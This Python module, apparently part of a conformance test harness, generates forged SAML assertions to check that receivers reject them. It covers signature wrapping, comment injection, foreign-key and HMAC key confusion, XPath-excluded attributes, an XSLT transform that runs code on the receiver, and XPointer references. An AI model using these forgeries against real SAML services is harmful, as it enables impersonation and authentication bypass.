"""Forged assertions: what an attacker makes of a genuine, signed one, and signatures with one defect each.

Everything here works on one assertion as it goes out, after signing, so that what is not the defect stays as it was.
Source: Somorovsky et al., On Breaking SAML (2012), signature wrapping; XML Signature 1.1, 4 and 6; SAML 2.0 Core, 5.4.
"""

import base64
import hashlib
import hmac
from collections.abc import Callable
from copy import deepcopy

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import padding
from lxml import etree

from harness import safexml
from harness.peers.arguments import refuse
from harness.wire import ns, saml, x509, xmldsig
from harness.wire.x509 import Credentials

HMAC_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"  # RFC 9231, 2.2.2
XPATH = "http://www.w3.org/TR/1999/REC-xpath-19991116"  # XML Signature 1.1, 6.6.3
XSLT = "http://www.w3.org/TR/1999/REC-xslt-19991116"  # XML Signature 1.1, 6.6.5
_SIGNATURE = ns.clark(ns.DS, "Signature")
_STATEMENT = ns.clark(ns.SAML, "AttributeStatement")

type Rewrite = Callable[[etree._Element], None]


def forged(root: etree._Element, *, same_id: bool = False) -> etree._Element:
    """A copy of `root` without signature that claims another subject, a TRC assertion another purpose, so that it would be
    good for the same request; its ID is another too unless `same_id`.
    """
    copy = deepcopy(root)
    if not same_id:
        copy.set("ID", f"{root.get('ID')}-forged")
    for signature in copy.findall(_SIGNATURE):
        copy.remove(signature)
    purpose = copy.find(f".//{ns.clark(ns.HL7, 'PurposeOfUse')}")
    if saml.parse_assertion(copy).kind == "trc" and purpose is not None:
        purpose.set("code", "TREATMENT" if purpose.get("code") == "EMERGENCY" else "EMERGENCY")
        return copy
    return forged_in_place(copy)


def unsigned(root: etree._Element) -> etree._Element:
    """A copy of `root` without its signature, which stands somewhere else and still covers it."""
    copy = deepcopy(root)
    copy.remove(genuine_signature(copy))
    return copy


def forged_in_place(root: etree._Element) -> etree._Element:
    """`root` with another subject under its unchanged signature."""
    value = subject_value(root)
    value.text = f"{value.text}x"
    return root


def with_signature_of(copy: etree._Element, root: etree._Element) -> etree._Element:
    """`copy` with the signature of `root` after its Issuer; that signature still points at `root`."""
    issuer = copy.find(ns.clark(ns.SAML, "Issuer"))
    if issuer is None:
        refuse("mutate", "an assertion without issuer cannot be forged")
    issuer.addnext(deepcopy(genuine_signature(root)))
    return copy


def wrapped_in_advice(root: etree._Element) -> etree._Element:
    """A forged assertion that carries the genuine one in its Advice."""
    copy = forged(root)
    advice = copy.find(ns.clark(ns.SAML, "Advice"))
    if advice is None:
        advice = etree.Element(ns.clark(ns.SAML, "Advice"))
        conditions = copy.find(ns.clark(ns.SAML, "Conditions"))
        if conditions is None:
            refuse("mutate", "an assertion without conditions cannot be wrapped")
        conditions.addnext(advice)
    advice.append(deepcopy(root))
    return copy


def wrapped_in_signature(root: etree._Element, *, in_object: bool) -> etree._Element:
    """A forged assertion whose signature, the genuine one, carries the genuine assertion, in a ds:Object or bare."""
    copy = with_signature_of(forged(root), root)
    signature = genuine_signature(copy)
    holder = etree.SubElement(signature, ns.clark(ns.DS, "Object")) if in_object else signature
    holder.append(unsigned(root))
    return copy


def in_header_block(root: etree._Element, namespace: str) -> bytes:
    """The genuine assertion, less its signature, inside a header block that nobody has to understand."""
    block = etree.Element(ns.clark(namespace, "Kept"), nsmap={"x": namespace})
    block.append(unsigned(root))
    return etree.tostring(block)


def header_block_with_id(name: str, namespace: str) -> bytes:
    """A header block that nobody has to understand and whose ID is `name`."""
    return etree.tostring(etree.Element(ns.clark(namespace, "Kept"), nsmap={"x": namespace}, ID=name))


def with_comment(node: etree._Element) -> None:
    """A comment in the middle of the text of `node`; canonicalisation drops it, so that a signature does not notice."""
    text = node.text or ""
    half = max(1, len(text) // 2)
    comment = etree.Comment("")
    comment.tail = text[half:]
    node.text = text[:half]
    node.insert(0, comment)


def subject_value(root: etree._Element) -> etree._Element:
    """The value of subject-id (of a next of kin: of the first attribute)."""
    path = f"{_STATEMENT}/{ns.clark(ns.SAML, 'Attribute')}"
    found = root.find(f"{path}[@Name='{saml.SUBJECT_ID}']/{ns.clark(ns.SAML, 'AttributeValue')}")
    if found is None:
        found = root.find(f"{path}/{ns.clark(ns.SAML, 'AttributeValue')}")
    if found is None:
        refuse("mutate", "an assertion without attributes cannot be altered there")
    return found


def name_id(root: etree._Element) -> etree._Element:
    """The NameID of the subject."""
    found = root.find(f"{ns.clark(ns.SAML, 'Subject')}/{ns.clark(ns.SAML, 'NameID')}")
    if found is None:
        refuse("mutate", "an assertion without NameID cannot be altered there")
    return found


def genuine_signature(root: etree._Element) -> etree._Element:
    """The signature that is a child of `root`."""
    found = root.find(_SIGNATURE)
    if found is None:
        refuse("mutate", "an unsigned assertion has no signature to alter")
    return found


def by_foreign_key(xml: bytes, genuine: Credentials, foreign: Credentials) -> bytes:
    """`xml` signed with `foreign`; KeyInfo shows the genuine certificate and, as KeyValue, the foreign key."""
    root = safexml.parse(xmldsig.sign(xml, foreign))
    info = _find(genuine_signature(root), "KeyInfo")
    certificate = _find(_find(info, "X509Data"), "X509Certificate")
    certificate.text = base64.b64encode(x509.certificate_der(genuine.certificate)).decode()
    numbers = foreign.key.public_key().public_numbers()
    key = etree.Element(ns.clark(ns.DS, "KeyValue"))
    value = etree.SubElement(key, ns.clark(ns.DS, "RSAKeyValue"))
    for name, number in (("Modulus", numbers.n), ("Exponent", numbers.e)):
        raw = number.to_bytes((number.bit_length() + 7) // 8)
        etree.SubElement(value, ns.clark(ns.DS, name)).text = base64.b64encode(raw).decode()
    info.insert(0, key)
    return etree.tostring(root)


def by_hmac(xml: bytes, credentials: Credentials) -> bytes:
    """`xml` with an HMAC in place of the signature; its key is the public certificate, which everybody has."""

    def declare(info: etree._Element) -> None:
        _find(info, "SignatureMethod").set("Algorithm", HMAC_SHA256)

    secret = x509.certificate_der(credentials.certificate)
    return _resigned(xml, credentials, declare, lambda data: hmac.new(secret, data, hashlib.sha256).digest())


def without_attributes_signed(xml: bytes, credentials: Credentials) -> bytes:
    """`xml` signed through an XPath transform that leaves the attributes out: they can be changed at will."""
    root = safexml.parse(xml)
    for statement in root.findall(_STATEMENT):
        root.remove(statement)
    covered = hashlib.sha256(etree.tostring(root, method="c14n", exclusive=True)).digest()

    def restrict(info: etree._Element) -> None:
        reference = _find(info, "Reference")
        first = _find(_find(reference, "Transforms"), "Transform")
        transform = etree.Element(ns.clark(ns.DS, "Transform"), Algorithm=XPATH)
        path = etree.SubElement(transform, ns.clark(ns.DS, "XPath"), nsmap={"saml": ns.SAML})
        path.text = "not(ancestor-or-self::saml:AttributeStatement)"
        first.addnext(transform)
        _find(reference, "DigestValue").text = base64.b64encode(covered).decode()

    return _resigned(xml, credentials, restrict)


def with_style_sheet(xml: bytes, credentials: Credentials) -> bytes:
    """`xml` signed through an XSLT transform that copies everything: a receiver that runs it runs foreign code."""

    def add(info: etree._Element) -> None:
        first = _find(_find(_find(info, "Reference"), "Transforms"), "Transform")
        transform = etree.Element(ns.clark(ns.DS, "Transform"), Algorithm=XSLT)
        uri = "http://www.w3.org/1999/XSL/Transform"
        sheet = etree.SubElement(transform, ns.clark(uri, "stylesheet"), nsmap={"xsl": uri}, version="1.0")
        template = etree.SubElement(sheet, ns.clark(uri, "template"), match="/")
        etree.SubElement(template, ns.clark(uri, "copy-of"), select=".")
        first.addnext(transform)

    return _resigned(xml, credentials, add)


def with_xpointer(xml: bytes, credentials: Credentials) -> bytes:
    """`xml` signed by a reference in XPointer form, which SAML does not allow."""

    def point(info: etree._Element) -> None:
        reference = _find(info, "Reference")
        reference.set("URI", f"#xpointer(id('{(reference.get('URI') or '').removeprefix('#')}'))")

    return _resigned(xml, credentials, point)


def _resigned(
    xml: bytes, credentials: Credentials, rewrite: Rewrite, make: Callable[[bytes], bytes] | None = None
) -> bytes:
    """`xml` signed, its SignedInfo rewritten, and the value made anew over that, so that the value is right."""
    root = safexml.parse(xmldsig.sign(xml, credentials))
    signature = genuine_signature(root)
    info = _find(signature, "SignedInfo")
    rewrite(info)
    alone = safexml.parse(etree.tostring(info, with_tail=False))
    data = etree.tostring(alone, method="c14n", exclusive=True)
    value = make(data) if make is not None else credentials.key.sign(data, padding.PKCS1v15(), hashes.SHA256())
    _find(signature, "SignatureValue").text = base64.b64encode(value).decode()
    return etree.tostring(root)


def _find(parent: etree._Element, name: str) -> etree._Element:
    found = parent.find(ns.clark(ns.DS, name))
    assert found is not None, "our own signatures are complete"
    return found
